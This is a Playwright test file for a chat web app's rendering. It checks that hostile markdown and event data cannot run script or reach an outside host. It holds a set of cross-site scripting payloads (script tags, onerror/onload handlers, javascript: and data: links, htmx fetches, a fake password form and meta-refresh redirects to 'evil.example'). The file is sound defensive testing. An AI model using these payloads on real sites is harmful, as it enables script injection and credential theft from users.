"""The agent, the user and the host write what they like: none of it runs, and no one else hears of it.

Every test of this folder fails on a violation of the policy, an uncaught error or a request to another host
(`conftest.new_context`); these bring the hostile words.
"""

from __future__ import annotations

from playwright.sync_api import Page, expect

from tests.browser.conftest import Server
from tests.browser.driving import (
    answer,
    assert_same_after_reload,
    emit,
    fill_history,
    rename,
    say,
    start,
    wait_for_state,
)

EVIL = "https://evil.example"
RUN = "document.body.dataset.pwned=1"
HOSTILE = f"\"><script>{RUN}</script><img src={EVIL}/x onerror='{RUN}'><svg onload={RUN}>"

MARKDOWN = f"""\
# {HOSTILE}

{HOSTILE}

<script src="{EVIL}/x.js"></script>
<iframe src="{EVIL}"></iframe>
<form action="{EVIL}"><input name=password autofocus onfocus="{RUN}"></form>
<div hx-get="{EVIL}" hx-trigger="load" hx-on:click="{RUN}" hx-sse:connect="{EVIL}">div</div>
<hx-partial hx-target="body" hx-swap="innerHTML">gone</hx-partial>
<chat-live hx-get="{EVIL}" hx-trigger="load">live</chat-live>
<p id="turns" style="position:fixed;inset:0;background:url({EVIL}/css)">style</p>
<base href="{EVIL}/"><meta http-equiv="refresh" content="0;url={EVIL}">
<details open ontoggle="{RUN}"><summary>x</summary></details>

![pixel]({EVIL}/pixel.png) ![data](data:image/svg+xml,%3Csvg%20onload='{RUN}'%3E)

[script](javascript:{RUN}) [data](data:text/html,<script>{RUN}</script>) <javascript:{RUN}>

| {HOSTILE} |
|---|
| {HOSTILE} |

```html
{HOSTILE}
```

```{HOSTILE}
fence
```
"""


def assert_harmless(page: Page) -> None:
    expect(page.locator("[data-pwned]")).to_have_count(0)
    # An address of another host is shown, or can be gone to, but nothing loads it or runs.
    loaded = "script, iframe, object, embed, base, meta[http-equiv], form[action^=http], img[src^=http], svg[onload]"
    expect(page.locator("#turns").locator(loaded)).to_have_count(0)
    handlers = page.evaluate("""() => [...document.querySelectorAll('#turns *, #history *, #heading')]
        .flatMap(it => it.getAttributeNames()).filter(name => /^on|^style$|^hx-on/.test(name))""")
    assert handlers == []
    for link in page.locator("#turns a[href]").all():
        assert not (link.get_attribute("href") or "").lower().startswith(("javascript:", "data:", "vbscript:"))


def test_a_hostile_answer_does_nothing_when_it_streams_or_is_loaded(chat: Page) -> None:
    say(chat, MARKDOWN)
    assert_harmless(chat)
    written = answer(chat).locator(".turn-body")
    expect(written.locator("[hx-get], [hx-trigger], chat-live, hx-partial, [autofocus]")).to_have_count(0)
    expect(chat.locator("#turns")).to_have_count(1)
    assert_same_after_reload(chat)
    assert_harmless(chat)


def test_a_hostile_answer_does_nothing_while_it_comes_letter_by_letter(chat: Page) -> None:
    emit(chat, *[("TextDelta", {"text": letter}) for letter in MARKDOWN[:600]])
    wait_for_state(chat, "completed")
    assert_harmless(chat)


def test_what_surrounds_a_hostile_answer_does_nothing(chat: Page) -> None:
    source = {"title": HOSTILE, "url": f"javascript:{RUN}", "detail": HOSTILE, "excerpt": HOSTILE}
    emit(
        chat,
        ("StageChanged", {"name": HOSTILE}),
        ("ReasoningDelta", {"text": HOSTILE}),
        ("ToolStarted", {"call_id": HOSTILE, "name": HOSTILE, "summary": HOSTILE, "arguments": {HOSTILE: HOSTILE}}),
        ("ToolFinished", {"call_id": HOSTILE, "summary": HOSTILE, "result": HOSTILE}),
        ("SourcesFound", {"sources": [source, {**source, "url": f'{EVIL}/"onclick="{RUN}'}]}),
        ("InputRequested", {"request_id": HOSTILE, "prompt": HOSTILE, "choices": [HOSTILE, "../../delete"]}),
    )
    wait_for_state(chat, "suspended")
    assert_harmless(chat)
    sources = answer(chat).get_by_role("list", name="Sources")
    expect(sources.get_by_role("listitem")).to_have_count(2)
    expect(sources.get_by_role("link")).to_have_count(1)
    assert sources.get_by_role("link").get_attribute("rel") == "noopener noreferrer nofollow"
    for step in answer(chat).locator(".ledger summary").all():
        step.click()
    assert_harmless(chat)
    answer(chat).locator("form.request button").first.click()
    wait_for_state(chat, "completed")
    chat.reload()
    assert_harmless(chat)


def test_what_the_user_writes_is_shown_as_it_is(chat: Page) -> None:
    words = f"</title><img src=x onerror='{RUN}'>"
    start(chat, words)
    expect(chat.locator("article.turn").first.locator(".turn-body")).to_have_text(words)
    expect(chat).to_have_title(f"{words} · Test chat")
    rename(chat, HOSTILE)
    expect(chat).to_have_title(f"{HOSTILE} · Test chat")
    chat.reload()
    expect(chat).to_have_title(f"{HOSTILE} · Test chat")
    chat.get_by_role("searchbox").fill(words + "?")
    expect(chat.locator("#history-list .nothing")).to_have_text(f"No results for “{words}?”.")
    assert_harmless(chat)


def test_hostile_names_titles_and_starters_of_the_host_do_nothing(page: Page, site: Server) -> None:
    page.goto(site.at("hostile/"))
    assert_harmless(page)
    page.locator(".starters button").click()
    wait_for_state(page, "completed")
    assert_harmless(page)
    page.reload()
    assert_harmless(page)


def test_a_link_in_an_answer_tells_its_site_nothing(chat: Page) -> None:
    say(chat, f"[out]({EVIL}/page)")
    link = answer(chat).get_by_role("link", name="out")
    assert set((link.get_attribute("rel") or "").split()) == {"noopener", "noreferrer", "nofollow"}


def test_one_user_does_not_see_what_another_has(chat: Page, site: Server, page: Page) -> None:
    fill_history(chat, ["mine"])
    chat.get_by_role("link", name="mine").click()
    expect(chat.locator("h1")).to_have_text("mine")
    url = chat.url
    chat.context.clear_cookies()
    chat.goto(url)
    expect(chat.locator("h1")).to_have_text("Page not found")
